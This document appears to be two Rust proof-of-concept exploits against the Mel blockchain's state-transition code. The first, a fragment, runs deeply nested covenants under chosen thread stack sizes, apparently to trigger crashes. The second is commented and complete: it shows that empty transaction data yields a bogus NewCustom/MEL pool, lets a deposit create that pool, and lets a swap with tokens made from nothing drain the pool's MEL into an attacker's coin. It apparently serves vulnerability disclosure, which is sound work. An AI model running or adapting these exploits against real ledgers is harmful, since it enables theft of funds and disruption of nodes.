        let fee = 10_000_000;
        let tx = Transaction { kind: TxKind::Normal, inputs: vec![CoinID::zero_zero()], outputs: vec![cd(1_000_000_000 - fee)], fee: CoinValue(fee), covenants: vec![bytes.to_vec().into()], data: vec![].into(), sigs: vec![] };
        println!("n={n}: {mode}: spending the genesis coin locked by this covenant (fee {fee}, base fee {}) ...", tx.base_fee(1 << 16, 0, |c| melvm::covenant_weight_from_bytes(c)).0);
        if mode == "applybatch" {
            // two chained transactions in one batch: rayon now splits the work, and the covenants run on rayon worker threads (2 MiB stacks)
            let tx2 = Transaction { kind: TxKind::Normal, inputs: vec![tx.output_coinid(0)], outputs: vec![cd(1_000_000_000 - 2 * fee)], fee: CoinValue(fee), covenants: vec![bytes.to_vec().into()], data: vec![].into(), sigs: vec![] };
            let h = std::thread::Builder::new().name("caller".into()).stack_size(stack).spawn(move || println!("n={n}: apply_tx_batch of 2 returned {:?}", g.apply_tx_batch(&[tx, tx2]))).unwrap();
            println!("n={n}: thread join: {:?}", h.join().map_err(|_| "PANICKED"));
            return;
        }
        if stack == 0 { println!("n={n}: apply_tx returned {:?}", g.apply_tx(&tx)); return; } // on the main thread (8 MiB)
        let h = std::thread::Builder::new().name("caller".into()).stack_size(stack).spawn(move || println!("n={n}: apply_tx returned {:?}", g.apply_tx(&tx))).unwrap();
        println!("n={n}: thread join: {:?}", h.join().map_err(|_| "PANICKED"));
        return;
    }
    let h = std::thread::Builder::new().stack_size(stack).spawn(move || {
        println!("n={n}: executing ...");
        let r = cov.debug_execute(&[]);
        println!("n={n}: execution returned {}, nesting depth {}", if r.is_some() { "Some(vector)" } else { "None" }, r.as_ref().map(depth).unwrap_or(0));
        println!("n={n}: dropping the result ...");
        drop(r);
        println!("n={n}: dropped OK");
    }).unwrap();
    println!("n={n}: thread join: {:?}", h.join().map_err(|_| "PANICKED"));
}
fn hex(b: &[u8]) -> String { b.iter().map(|x| format!("{x:02x}")).collect() }
