// Empty transaction data names the pool NewCustom/MEL: Denom::from_bytes(b"") == NewCustom, so PoolKey::from_bytes(b"") ==
// PoolKey { left: NewCustom, right: Mel }, which is "canonical" ("" < "m") and passes `pool_key_from_data` in src/state/melmint.rs.
// NewCustom is not a real denomination: a NewCustom output becomes a coin of Denom::Custom(txhash) and is exempt from the balance check.
//  * a LiqDeposit with data = "" and outputs [NewCustom L, Mel R] creates a pool under that key with reserves L / R, although the coin
//    deposited on the left is Custom(txhash);
//  * any Swap with data = "" and outputs[0] = { NewCustom, huge } (created out of nothing) is then paid nearly all the MEL of that pool.
use melstf::*;
use melstructs::*;
use melvm::Covenant;
use novasmt::{Database, InMemoryCas};
use std::collections::BTreeMap;
fn cd(v: u128, d: Denom) -> CoinData { CoinData { covhash: Covenant::always_true().hash(), value: CoinValue(v), denom: d, additional_data: vec![].into() } }
fn tx(kind: TxKind, inputs: Vec<CoinID>, outputs: Vec<CoinData>, fee: u128, data: Vec<u8>) -> Transaction {
    Transaction { kind, inputs, outputs, fee: CoinValue(fee), covenants: vec![Covenant::always_true().to_bytes()], data: data.into(), sigs: vec![] }
}
fn coin(s: &SealedState<InMemoryCas>, id: CoinID) -> String {
    match s.coin(id) { Some(c) => format!("{} micro of {:?} (height {})", c.coin_data.value.0, c.coin_data.denom, c.height), None => "None".into() }
}
fn main() {
    let k = PoolKey::from_bytes(b"");
    println!("PoolKey::from_bytes(b\"\") = {:?}", k);
    let k = k.unwrap();
    println!("  left {:?} right {:?}; left.to_bytes() {:?} < right.to_bytes() {:?}: {}; to_bytes() of the key = {:?}", k.left(), k.right(), k.left().to_bytes(), k.right().to_bytes(),
        k.left().to_bytes() < k.right().to_bytes(), k.to_bytes());

    let db = Database::new(InMemoryCas::default());
    let g = GenesisConfig { network: NetID::Custom02, init_coindata: cd(2_000_000, Denom::Mel), stakes: BTreeMap::new(), init_fee_pool: CoinValue(0), init_fee_multiplier: 0 }.realize(&db);
    let s0 = g.seal(None);
    println!("block 0: pool under the empty key: {:?}", s0.pool(k));
    // block 1: the "victim" deposits: genesis coin 2_000_000 MEL -> [NewCustom 5_000, Mel 1_000_000, Mel 1_000_000 change]
    let mut u = s0.next_unsealed();
    let dep = tx(TxKind::LiqDeposit, vec![CoinID::zero_zero()], vec![cd(5_000, Denom::NewCustom), cd(1_000_000, Denom::Mel), cd(1_000_000, Denom::Mel)], 0, vec![]);
    println!("block 1: LiqDeposit with data = \"\" and outputs [NewCustom 5_000, Mel 1_000_000, Mel 1_000_000 (change)]: {:?}", u.apply_tx(&dep));
    let s1 = u.seal(None);
    println!("  (apply_tx stores a NewCustom output as a coin of Custom(txhash); txhash of the deposit = {})", dep.hash_nosigs());
    println!("block 1 sealed: pool under the empty key = {:?}", s1.pool(k));
    println!("  deposit output 0 = {}", coin(&s1, dep.output_coinid(0)));
    println!("  deposit output 1 = {}", coin(&s1, dep.output_coinid(1)));
    println!("  liq token denom of the key = {:?}", k.liq_token_denom());
    println!("  pool under the real key MEL/Custom(txhash) = {:?}", s1.pool(PoolKey::new(Denom::Mel, Denom::Custom(dep.hash_nosigs()))));
    // block 2: anybody swaps "NewCustom" created out of nothing for the MEL in that pool
    let mut u = s1.next_unsealed();
    let sw = tx(TxKind::Swap, vec![dep.output_coinid(2)], vec![cd(1_000_000_000_000, Denom::NewCustom), cd(1_000_000, Denom::Mel)], 0, vec![]);
    println!("block 2: Swap with data = \"\", input = 1_000_000 MEL, outputs [NewCustom 10^12, Mel 1_000_000 (same MEL back)]: {:?}", u.apply_tx(&sw));
    let s2 = u.seal(None);
    println!("block 2 sealed: pool under the empty key = {:?}", s2.pool(k));
    println!("  swap output 0 = {}", coin(&s2, sw.output_coinid(0)));
    println!("  swap output 1 = {}", coin(&s2, sw.output_coinid(1)));
    // block 3: the MEL paid out is ordinary MEL: merge both
    let mut u = s2.next_unsealed();
    let got = s2.coin(sw.output_coinid(0)).unwrap().coin_data.value.0;
    let m = tx(TxKind::Normal, vec![sw.output_coinid(0), sw.output_coinid(1)], vec![cd(got + 1_000_000, Denom::Mel)], 0, vec![]);
    println!("block 3: merging the payout with the attacker's own MEL into one coin of {}: {:?}", got + 1_000_000, u.apply_tx(&m));
    let s3 = u.seal(None);
    println!("block 3 sealed: attacker's coin = {}; started with 1000000 micro-MEL", coin(&s3, m.output_coinid(0)));
    println!("  pool under the empty key = {:?}", s3.pool(k));
}
